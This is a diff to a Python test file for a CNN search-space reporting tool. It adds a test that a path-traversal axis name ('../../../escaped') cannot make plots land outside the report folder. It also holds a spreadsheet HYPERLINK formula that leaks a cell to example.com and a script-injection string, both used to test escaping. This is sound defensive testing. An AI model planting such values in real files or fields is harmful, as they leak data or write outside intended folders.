@@ -6,13 +6,16 @@ import csv
 import json
 
 import optuna
+import pytest
 from _explore_studies import write_study
 from optuna.trial import TrialState, create_trial
 
 from cnnspace.cli import main
-from cnnspace.explore import load_study_file, open_storage
+from cnnspace.explore import load_results, load_study_file, open_storage
 from cnnspace.explore._journal import WORKER_ATTR
 from cnnspace.explore._records import STUDY_ATTR
+from cnnspace.report import write_report
+from cnnspace.space import SpaceError
 
 FORMULA = '=HYPERLINK("http://example.com/?"&A1,"details")'
 SCRIPT = "<script>alert(1)</script>"
@@ -47,3 +50,28 @@ def test_report_html_shows_stored_markup_as_text(tmp_path):
     html = (tmp_path / "report.html").read_text()
     assert SCRIPT not in html
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+
+
+
+def test_axis_names_of_a_crafted_storage_cannot_write_plots_outside_the_report_folder(tmp_path):
+    # write_report drew the sweep of an axis named '../../../escaped' to
+    # plots/sweep_../../../escaped.png, outside the report's folder, and only then checked the
+    # space (`cnnspace report` checks it first, the Python API did not)
+    axis = "../../../escaped"
+    study_file = load_study_file(write_study(tmp_path, name="tiny"))
+    config = json.loads(json.dumps(study_file.to_dict()))
+    config["space"]["axes"] = {axis: [0.25, 0.5]}
+    storage = open_storage(tmp_path / "study.journal", heartbeat=None)
+    study = optuna.create_study(study_name="tiny", storage=storage,
+                                directions=study_file.directions)
+    study.set_user_attr(STUDY_ATTR, config)
+    for i, value in enumerate([0.25, 0.5]):
+        study.add_trial(create_trial(
+            state=TrialState.COMPLETE, values=[0.5 + i / 10, 1.0 + i],
+            user_attrs={"outcome": "trained", "point": {axis: value}, "point_id": f"p{i}",
+                        "results": {"top1": 0.5 + i / 10, "size_mib": 1.0 + i}}))
+    out = tmp_path / "deep" / "out"
+    with pytest.raises(SpaceError, match=r"firenet has no setting '\.\./\.\./\.\./escaped'"):
+        write_report(load_results(str(tmp_path / "study.journal")), out)
+    assert not list(tmp_path.rglob("escaped*"))
+    assert not out.exists()
